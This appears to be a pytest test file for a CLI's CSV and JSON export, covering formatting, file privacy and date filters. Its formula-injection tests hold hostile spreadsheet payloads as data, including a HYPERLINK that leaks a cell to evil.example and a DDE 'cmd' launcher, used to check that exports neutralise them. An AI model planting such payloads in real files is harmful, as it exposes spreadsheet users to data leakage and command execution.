"""`sec-desktop export`: CSV safe for spreadsheets, JSON that round-trips, files kept private."""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest

from sec_desktop.interop.exports import EXPORT_CSV_COLUMNS
from sec_desktop.store import Entry
from tests.helpers.ids import INCIDENT, OKR, SECURITY


def csv_rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == EXPORT_CSV_COLUMNS
    return list(reader)


def test_csv_has_the_header_and_a_row_per_entry(cli, log, device) -> None:
    first = log(OKR, "--start", "09:00", "--end", "10:00", "--label", "q4", "--label", "board")
    second = log(INCIDENT, "--start", "10:00", "--end", "10:45", "--note", "pager at 10")
    result = cli("export", "--format", "csv", "--include-notes")
    assert result.code == 0
    assert result.err == ""
    assert result.out.splitlines()[0] == ",".join(EXPORT_CSV_COLUMNS)
    assert "\r\n" in result.out
    rows = csv_rows(result.out)
    assert [r["id"] for r in rows] == [first, second]
    okr = rows[0]
    assert okr["start"] == "2026-11-23T09:00:00+01:00"
    assert okr["end"] == "2026-11-23T10:00:00+01:00"
    assert okr["time_zone"] == "Europe/Berlin"
    assert okr["duration_minutes"] == "60.00"
    assert (okr["domain"], okr["focus_area"], okr["activity"]) == (
        "Strategy",
        "Technology Planning",
        "OKR management",
    )
    assert okr["activity_id"] == OKR
    assert okr["labels"] == "q4, board"
    assert okr["note"] == ""
    assert okr["source"] == "manual"
    assert okr["device"] == device
    assert okr["created"] == okr["updated"] == "2026-11-23T17:00:00Z"
    assert rows[1]["note"] == "pager at 10"
    assert rows[1]["duration_minutes"] == "45.00"


def test_csv_of_an_entry_tagged_above_activity_level(cli, log) -> None:
    log(SECURITY, "--minutes", "30")
    (row,) = csv_rows(cli("export", "--format", "csv").out)
    assert (row["domain"], row["focus_area"], row["activity"]) == (
        "Execution",
        "Security & Compliance",
        "",
    )


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_csv_neutralises_formula_cells(cli, log, prefix: str) -> None:
    note = f'{prefix}HYPERLINK("http://evil.example","x")'
    label = f"{prefix}1+1"
    log(OKR, "--minutes", "10", f"--note={note}", f"--label={label}")
    (row,) = csv_rows(cli("export", "--format", "csv", "--include-notes").out)
    assert row["note"] == "'" + note
    assert row["labels"] == "'" + label
    # Exactly one quote: the stored entry itself is unchanged.
    doc = json.loads(cli("export", "--format", "json", "--include-notes").out)
    assert doc["entries"][0]["note"] == note
    assert doc["entries"][0]["labels"] == [label]


def test_csv_leaves_harmless_text_alone(cli, log) -> None:
    log(OKR, "--minutes", "10", "--note", "plan = done", "--label", "a-b", "--label", "=x")
    (row,) = csv_rows(cli("export", "--format", "csv", "--include-notes").out)
    assert row["note"] == "plan = done"
    # Only the start of the cell matters to a spreadsheet.
    assert row["labels"] == "a-b, =x"


def test_csv_keeps_non_ascii(cli, log) -> None:
    note = "Grüße aus Köln — 東京のチーム, “quoted”, emoji 🚀"
    log(OKR, "--minutes", "10", "--note", note, "--label", "Überprüfung")
    (row,) = csv_rows(cli("export", "--format", "csv", "--include-notes").out)
    assert row["note"] == note
    assert row["labels"] == "Überprüfung"


def test_csv_quotes_commas_quotes_and_newlines(cli, log) -> None:
    note = 'line one, with "quotes"\nline two'
    log(OKR, "--minutes", "10", "--note", note)
    (row,) = csv_rows(cli("export", "--format", "csv", "--include-notes").out)
    assert row["note"] == note


def test_json_round_trips_every_entry(cli, log, stored) -> None:
    log(OKR, "--start", "09:00", "--end", "10:00", "--label", "q4", "--note", "Grüße")
    log(INCIDENT, "--start", "2026-10-25T02:30", "--minutes", "50")
    log("culture", "--start", "2026-11-01T00:30", "--end", "2026-11-01T01:00")
    result = cli("export", "--format", "json", "--include-notes")
    assert result.code == 0
    doc = json.loads(result.out)
    assert doc["format"] == "sec-desktop/export"
    assert doc["version"] == 1
    assert doc["exported_at"] == "2026-11-23T17:00:00Z"
    assert doc["framework"] == {"id": "sec-v2", "version": "2.0"}
    on_disk = stored()
    assert len(on_disk) == 3
    exported = [Entry.from_json(d) for d in doc["entries"]]
    assert sorted(exported, key=lambda e: e.id) == sorted(on_disk, key=lambda e: e.id)
    # Field by field, not just dataclass equality; the merge bookkeeping stays at home.
    merge_keys = {"stamps", "seen", "conflicts"}
    assert sorted(doc["entries"], key=lambda d: d["id"]) == sorted(
        ({k: v for k, v in e.to_json().items() if k not in merge_keys} for e in on_disk),
        key=lambda d: d["id"],
    )


def test_output_file_is_private(cli, log, tmp_path) -> None:
    log(OKR, "--minutes", "30")
    target = tmp_path / "out" / "export.json"
    target.parent.mkdir()
    result = cli("export", "--format", "json", "--output", str(target))
    assert result.code == 0
    assert result.out == ""
    assert result.err == f"Exported 1 entries to {target}\n"
    if os.name == "posix":
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_text("utf-8") == cli("export", "--format", "json").out
    # No temp files left beside it.
    assert [p.name for p in target.parent.iterdir()] == ["export.json"]


def test_output_replaces_an_existing_file_and_keeps_it_private(cli, log, tmp_path) -> None:
    log(OKR, "--minutes", "30")
    target = tmp_path / "export.csv"
    target.write_text("old")
    target.chmod(0o644)
    assert cli("export", "--format", "csv", "--output", str(target)).code == 0
    assert target.read_text("utf-8").startswith("id,start,end")
    if os.name == "posix":
        assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_output_dash_is_stdout(cli, log) -> None:
    log(OKR, "--minutes", "30")
    result = cli("export", "--format", "csv", "--output", "-")
    assert result.code == 0
    assert len(csv_rows(result.out)) == 1


def test_output_into_a_missing_folder_exits_2(cli, log, tmp_path) -> None:
    log(OKR, "--minutes", "30")
    target = tmp_path / "nowhere" / "export.json"
    result = cli("export", "--format", "json", "--output", str(target))
    assert result.code == 2
    assert result.out == ""
    assert len(result.err_lines) == 1
    assert str(target.parent) in result.err
    assert "does not exist" in result.err
    assert not target.parent.exists()


def test_output_to_a_folder_exits_2(cli, tmp_path) -> None:
    result = cli("export", "--format", "json", "--output", str(tmp_path))
    assert result.code == 2
    assert "is a folder" in result.err


def test_from_to_filters(cli, log) -> None:
    early = log(OKR, "--start", "2026-11-20T10:00", "--end", "2026-11-20T11:00")
    late = log(OKR, "--start", "2026-11-22T23:30", "--end", "2026-11-23T00:30")
    today = log(OKR, "--start", "2026-11-23T09:00", "--end", "2026-11-23T10:00")

    def ids(*args: str) -> list[str]:
        result = cli("export", "--format", "json", *args)
        assert result.code == 0, result.err
        return [e["id"] for e in json.loads(result.out)["entries"]]

    assert ids() == [early, late, today]
    assert ids("--from", "2026-11-20", "--to", "2026-11-20") == [early]
    # An entry overlapping a day boundary belongs to both days' exports.
    assert ids("--from", "2026-11-22", "--to", "2026-11-22") == [late]
    assert ids("--from", "2026-11-23", "--to", "2026-11-23") == [late, today]
    assert ids("--from", "2026-11-21") == [late, today]
    assert ids("--from", "2026-11-21", "--to", "2026-11-21") == []
    csv_ids = [
        r["id"]
        for r in csv_rows(
            cli("export", "--format", "csv", "--from", "2026-11-20", "--to", "2026-11-21").out
        )
    ]
    assert csv_ids == [early]


def test_export_with_bad_range_exits_2(cli) -> None:
    result = cli("export", "--format", "json", "--from", "2026-11-23", "--to", "2026-11-01")
    assert result.code == 2
    assert len(result.err_lines) == 1


def test_export_of_nothing(cli, shard_files) -> None:
    result = cli("export", "--format", "csv")
    assert result.code == 0
    assert result.out == ",".join(EXPORT_CSV_COLUMNS) + "\r\n"
    assert json.loads(cli("export", "--format", "json").out)["entries"] == []
    assert shard_files() == []


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_csv_exports_neutralise_a_renamed_label_and_imported_ids(
    cli, log, isolated_dirs, tmp_path
) -> None:
    from dataclasses import replace

    from sec_desktop.framework import load_framework
    from sec_desktop.framework.customization import Customization, save_customization
    from sec_desktop.interop.exports import export_json
    from tests.helpers.entries import make_entry

    from .conftest import NOW

    base = load_framework()
    save_customization(
        isolated_dirs["data"],
        Customization().rename(base, OKR, HYPERLINK),
        base,
        device_id="elsewhere",
    )
    log(OKR, "--start", "09:00", "--end", "10:00")
    imported = replace(
        make_entry(NOW.replace(hour=6), 30, "-2+3+cmd|' /C calc'!A0", now=NOW),
        id="@SUM(1+1)",
        labels=("=1+2",),
        note="+note",
    )
    path = tmp_path / "hostile.json"
    path.write_bytes(export_json([imported], base, NOW))
    assert cli("import", "--from", "sec-json", str(path)).code == 0

    for export_format in ("csv", "toggl-csv"):
        result = cli("export", "--format", export_format, "--include-notes")
        assert result.code == 0, result.err
        rows = list(csv.reader(io.StringIO(result.out, newline="")))
        assert len(rows) == 3
        cells = [cell for row in rows for cell in row]
        assert [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)] == []
        for hostile in (HYPERLINK, imported.activity, "=1+2", "+note"):
            assert "'" + hostile in cells, (export_format, hostile)
        if export_format == "csv":  # Toggl's columns have no id
            assert "'" + imported.id in cells
